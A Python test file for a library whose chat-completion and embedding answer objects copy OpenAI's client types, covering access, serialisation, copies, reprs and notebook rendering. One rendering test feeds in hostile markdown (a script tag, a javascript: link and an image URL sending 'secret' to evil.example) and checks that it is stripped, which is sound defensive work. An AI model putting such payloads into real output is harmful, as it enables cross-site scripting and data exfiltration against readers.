"""Answers behave as those of OpenAI's client do: as attributes, as dicts, as JSON, and in a notebook."""

from __future__ import annotations

import copy
import json
import pickle
from typing import Any

import numpy as np
import openai.types.chat
import pytest

from modelyard.inprocess.answers import (
    ChatCompletion,
    ChatCompletionChunk,
    ChatCompletionMessage,
    Completion,
    EmbeddingResponse,
    PooledUsage,
)

USAGE = {
    "prompt_tokens": 12,
    "completion_tokens": 3,
    "total_tokens": 15,
    "prompt_tokens_details": {"cached_tokens": 4},
    "completion_tokens_details": {"reasoning_tokens": 1},
}
COMMON = {"id": "chatcmpl-1", "created": 1, "model": "smol", "system_fingerprint": "fp"}
TOKEN = {"token": "It", "logprob": -0.5, "bytes": [73, 116]}
CALL = {"id": "call_1", "type": "function", "function": {"name": "weather", "arguments": '{"city": "Rome"}'}}


def body(content: str | None = "It is Rome.", **message: Any) -> dict[str, Any]:
    """The answer of the HTTP API."""
    return {
        **COMMON,
        "object": "chat.completion",
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": content, "refusal": None, **message},
                "logprobs": {"content": [{**TOKEN, "top_logprobs": [TOKEN]}], "refusal": None},
                "finish_reason": "stop",
            }
        ],
        "usage": USAGE,
    }


def answer(content: str | None = "It is Rome.", **message: Any) -> ChatCompletion:
    return ChatCompletion.model_validate(body(content, **message))


def embeddings() -> EmbeddingResponse:
    return EmbeddingResponse.of(np.eye(2, 3, dtype=np.float32), "minilm", PooledUsage(prompt_tokens=4, total_tokens=4))


def test_an_answer_is_read_by_attributes_and_by_subscripts() -> None:
    said = answer(reasoning_content="A capital.", tool_calls=[CALL])
    message = said["choices"][0]["message"]
    assert message is said.choices[0].message
    assert message["content"] == message.content == message.get("content") == "It is Rome."
    assert message["tool_calls"][0]["function"]["name"] == "weather"
    assert "reasoning_content" in message
    assert "thoughts" not in message
    assert (message.get("thoughts"), message.get("thoughts", "none")) == (None, "none")
    assert dict(message) == {**message} == dict(message.items())
    assert list(message.values()) == [message[name] for name in message.keys()]  # noqa: SIM118
    with pytest.raises(KeyError, match="Did you mean 'content'"):
        message["contnet"]
    with pytest.raises(KeyError, match="It has id, created"):
        said[0]  # type: ignore[index]


def test_an_answer_becomes_the_json_of_the_http_api_and_comes_back() -> None:
    for sent in (body(), body(None, tool_calls=[CALL]), body(reasoning_content="Hm.")):
        said = ChatCompletion.model_validate(sent)
        assert json.loads(json.dumps(said.to_dict())) == json.loads(said.to_json()) == sent
        assert ChatCompletion.model_validate_json(said.model_dump_json()) == said
        # OpenAI's own client reads it.
        assert openai.types.chat.ChatCompletion.model_validate(said.model_dump()).model == "smol"


@pytest.mark.parametrize("said", [answer(), embeddings()], ids=lambda said: type(said).__name__)
def test_an_answer_is_equal_to_its_copies(said: Any) -> None:
    for same in (pickle.loads(pickle.dumps(said)), copy.copy(said), copy.deepcopy(said)):
        assert same == said
        assert same.to_dict() == said.to_dict()
    other = said.model_copy(update={"model": "gemma"})
    assert other != said
    assert said != said.to_dict()


def test_a_message_without_calls_has_none_as_openais_has() -> None:
    assert answer().choices[0].message.tool_calls is None
    assert ChatCompletionMessage(content="Hi").as_request() == {"role": "assistant", "content": "Hi"}
    calling = answer(None, tool_calls=[CALL]).choices[0].message
    assert calling.as_request() == {"role": "assistant", "content": None, "tool_calls": [CALL]}


def test_the_repr_of_an_answer_is_short_and_shows_its_text() -> None:
    assert repr(answer()) == str(answer())
    assert repr(answer()) == (
        "ChatCompletion(content='It is Rome.', finish_reason='stop', model='smol', "
        "usage=CompletionUsage(prompt_tokens=12, completion_tokens=3))"
    )
    assert len(repr(answer("word " * 1000))) < 300
    assert "weather" in repr(answer(None, tool_calls=[CALL]))
    chunk = {**COMMON, "choices": [{"index": 0, "delta": {"content": " is"}}]}
    assert repr(ChatCompletionChunk.model_validate(chunk)) == "ChatCompletionChunk(content=' is')"
    text = {**COMMON, "choices": [{"index": 0, "text": " is"}, {"index": 1, "text": " was"}]}
    assert "CompletionChoice(' is')" in repr(Completion.model_validate(text))
    assert repr(embeddings()).startswith("EmbeddingResponse(vectors=(2, 3), model='minilm'")


def test_a_notebook_renders_the_markdown_of_an_answer_and_nothing_else_of_it() -> None:
    said = answer(
        "**Bold** <script>alert(1)</script> ![](https://evil.example/?q=secret) [x](javascript:alert(1))\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        reasoning_content="<b>hm</b>",
        tool_calls=[{**CALL, "function": {"name": "<i>", "arguments": "{}"}}],
    )
    shown = said._repr_html_()
    assert "<strong>Bold</strong>" in shown
    assert "<td>1</td>" in shown
    for dangerous in ("<script", "<img", 'href="javascript', "<b>", "<i>"):
        assert dangerous not in shown
    assert "&lt;b&gt;hm" in shown
    assert "smol · stop · 3 tokens" in shown
    completed = {**COMMON, "choices": [{"index": 0, "text": "<b>*x*", "finish_reason": "stop"}]}
    assert "&lt;b&gt;*x*" in Completion.model_validate(completed)._repr_html_()


def test_embeddings_are_an_array_and_openais_lists() -> None:
    response = embeddings()
    assert response.vectors.shape == (2, 3)
    assert response.data[1].embedding == [0, 1, 0]
    assert response["data"] == response.data
    assert response.to_dict() == {
        "object": "list",
        "model": "minilm",
        "usage": {"prompt_tokens": 4, "total_tokens": 4},
        "data": [
            {"object": "embedding", "index": 0, "embedding": [1, 0, 0]},
            {"object": "embedding", "index": 1, "embedding": [0, 1, 0]},
        ],
    }


def test_the_lists_of_embeddings_are_made_once() -> None:
    response = embeddings()
    assert response.data[1] is response.data[1]
    assert response == embeddings()
    for same in (pickle.loads(pickle.dumps(response)), copy.copy(response), copy.deepcopy(response)):
        assert same == response
        assert same.to_dict() == response.to_dict()
